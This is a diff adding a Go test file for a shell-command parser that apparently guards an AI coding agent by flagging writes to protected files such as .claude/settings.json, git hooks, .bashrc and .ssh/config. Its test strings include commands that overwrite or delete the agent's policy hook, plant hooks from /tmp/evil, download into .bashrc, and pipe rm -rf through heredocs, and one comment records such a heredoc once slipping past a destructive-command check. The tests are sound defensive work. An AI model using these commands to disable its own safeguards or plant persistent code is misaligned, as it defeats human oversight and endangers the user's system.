@@ -1,0 +1,157 @@
+package shell_test
+
+import (
+	"slices"
+	"testing"
+
+	"github.com/charter-dev/charter/internal/enforce/shell"
+)
+
+// TestProtectedChanges: a command that writes a file which makes code run
+// when an everyday command runs (.git/hooks/pre-commit, .git/config,
+// .gitattributes), or which holds the runtime's own policy
+// (.claude/settings.json holds charter's hook), changes a protected file,
+// however it writes it: a redirection, tee, cp, mv, ln, sed -i, chmod, a
+// PowerShell cmdlet, a name relative to a folder an earlier cd entered;
+// entering such a folder (a later call's bare names land there) counts
+// too. Commands that write other files, and that only read protected
+// ones, change none.
+func TestProtectedChanges(t *testing.T) {
+	for _, src := range []string{
+		`echo '{}' > .claude/settings.json`,
+		`cat > .claude/settings.local.json <<EOF
+{}
+EOF`,
+		`printf x >> .git/hooks/pre-commit`,
+		`echo x | tee -a .git/config`,
+		`cp /tmp/evil .git/hooks/post-checkout`,
+		`cp /tmp/settings.json .claude/`,
+		`mv .claude/settings.json /tmp/x`,
+		`rm -f .claude/settings.json`,
+		`ln -s /tmp/evil .git/hooks/pre-commit`,
+		`chmod +x .git/hooks/pre-commit`,
+		`sed -i 's/charter/true/' .claude/settings.json`,
+		`sed -i.bak -e 's/x/y/' ~/.claude/settings.json`,
+		`echo '* filter=x' >> .gitattributes`,
+		`echo 'export X' >> ~/.bashrc`,
+		`echo 'eval x' > .envrc`,
+		`echo '{}' > .mcp.json`,
+		`echo 'Host *' >> ~/.ssh/config`,
+		`cd .claude && echo '{}' > settings.json`,
+		`cd .git/hooks; cat /tmp/x > pre-commit`,
+		`cd "$D" && echo x > settings.json`,
+		`cd "$D" && echo x > pre-push`,
+		`cd .claude`,
+		`pushd ~/.ssh`,
+		`echo x > "$F"`,
+		`echo x > .CLAUDE/Settings.JSON`,
+		`curl -o .git/hooks/pre-commit https://x`,
+		`wget -O ~/.bashrc https://x`,
+		`dd if=/tmp/x of=.git/config`,
+		`sudo tee /etc/profile.d/../../home/u/.profile`,
+		`Set-Content -Path .claude/settings.json -Value '{}'`,
+		`sc .claude\settings.json '{}'`,
+		`Remove-Item .claude/settings.local.json`,
+		`bash -c 'echo {} > .claude/settings.json'`,
+		`git -C sub status && echo x > sub/.git/config`,
+		`echo 'gitdir: /tmp/evil' > sub/.git`,
+		`rsync -a /tmp/h/ .git/hooks/`, `scp host:x .git/hooks/pre-commit`, `git config -f .claude/settings.json a.b c`,
+		`git config --file=.git/config core.editor vim`, `patch .claude/settings.json < p.diff`, `ed -s .git/config < script`,
+		`perl -pi -e 's/charter/true/' .claude/settings.json`, `git checkout -- .claude/settings.json`,
+		`git restore --source=HEAD~1 .claude/settings.json`, `git rm -q .claude/settings.json`,
+		`tar -xf h.tar -C .git/hooks`, `tar xf h.tar --directory=.git`, `unzip -o h.zip -d .git/hooks`,
+		`install -m 755 x .git/hooks/pre-commit`, `cp -t .git/hooks x`,
+		// What Windows writes as the file itself.
+		`Set-Content '.claude\settings.json.' x`, `Set-Content '.claude\settings.json::$DATA' x`, `echo x > '.git. /config'`,
+	} {
+		cs, err := shell.Parse(src)
+		if err != nil {
+			t.Errorf("%s: %v", src, err)
+			continue
+		}
+		found := false
+		for _, c := range cs {
+			for _, p := range c.Protected() {
+				found = found || p.Why != ""
+			}
+		}
+		if !found {
+			t.Errorf("%s: changes no protected file: %+v", src, cs)
+		}
+	}
+	for _, src := range []string{
+		`cat .claude/settings.json`, `git diff .gitattributes`, `echo x > out.txt`, `cp .git/config /tmp/backup`,
+		`ls .git/hooks`, `echo x > settings.json`, `echo x > config`, `sed -n 1p .git/config`, `sed 's/a/b/' .bashrc > out`,
+		`cd sub && echo x > settings.json`, `cd /tmp && echo x > log`, `go test ./... > /dev/null 2>&1`, `echo x >&2`,
+		`chmod +x script.sh`, `rm -rf build`, `git status`, `git log -p -- .git/config`,
+		`git checkout main`, `git rm -q old.go`, `tar -xf x.tar -C build`, `perl -ne 'print' .git/config`,
+		`git config --get -f .git/config remote.origin.url`, `rsync -a .git/ /tmp/backup/`,
+	} {
+		cs, err := shell.Parse(src)
+		if err != nil {
+			t.Errorf("%s: %v", src, err)
+			continue
+		}
+		for _, c := range cs {
+			if p := c.Protected(); len(p) > 0 {
+				t.Errorf("%s: %+v", src, p)
+			}
+		}
+	}
+}
+
+// TestBareRedirection: a statement that is only a redirection (`>
+// .claude/settings.json`, `X=1 >> ~/.bashrc`) truncates or creates the
+// file, as the null command `:` would, and the reader listed no command
+// for it: a whitelist had nothing to check, and the write was seen by
+// no rule. It is now the command ":" with those writes.
+func TestBareRedirection(t *testing.T) {
+	for _, src := range []string{`> .claude/settings.json`, `X=1 >> ~/.bashrc`, `>|.git/config`, `{ > .envrc; }`} {
+		cs, err := shell.Parse(src)
+		if err != nil || len(cs) != 1 || cs[0].Program != ":" || len(cs[0].Writes) != 1 || len(cs[0].Protected()) != 1 {
+			t.Errorf("%s: %+v, %v", src, cs, err)
+		}
+	}
+	for _, src := range []string{`X=1`, `< in.txt`} {
+		cs, err := shell.Parse(src)
+		if err != nil || len(cs) != 0 {
+			t.Errorf("%s: %+v, %v", src, cs, err)
+		}
+	}
+}
+
+// TestShellReadsHeredoc: a shell with no -c and no script reads its
+// commands from standard input, and a here-document or here-string gives
+// them on the command line itself: bash <<'EOF' rm -rf / EOF ran past
+// confirm_destructive, read as bash alone. The text is read as the code
+// it is (via "bash <<"); one with expansions is known only when it runs.
+func TestShellReadsHeredoc(t *testing.T) {
+	for _, src := range []string{
+		"bash <<'EOF'\nrm -rf /x\nEOF",
+		"sh -s <<EOF\nrm -rf /x\nEOF",
+		"sudo sh <<< 'rm -rf /x'",
+		"bash -s -- arg <<'EOF'\ncd /; rm -rf x\nEOF",
+		"bash <<EOF\n$CMD\nEOF",
+	} {
+		cs, err := shell.Parse(src)
+		if err != nil {
+			t.Errorf("%q: %v", src, err)
+			continue
+		}
+		if !slices.ContainsFunc(cs, func(c shell.Command) bool { return c.Destructive != "" }) {
+			t.Errorf("%q: not destructive: %+v", src, cs)
+		}
+	}
+	for _, src := range []string{"cat <<'EOF'\nrm -rf /x\nEOF", "bash -c 'ls' <<< 'rm -rf /x'", "bash script.sh <<< 'rm -rf /x'"} {
+		cs, err := shell.Parse(src)
+		if err != nil {
+			t.Errorf("%q: %v", src, err)
+			continue
+		}
+		for _, c := range cs {
+			if c.Destructive != "" {
+				t.Errorf("%q: %+v", src, c)
+			}
+		}
+	}
+}
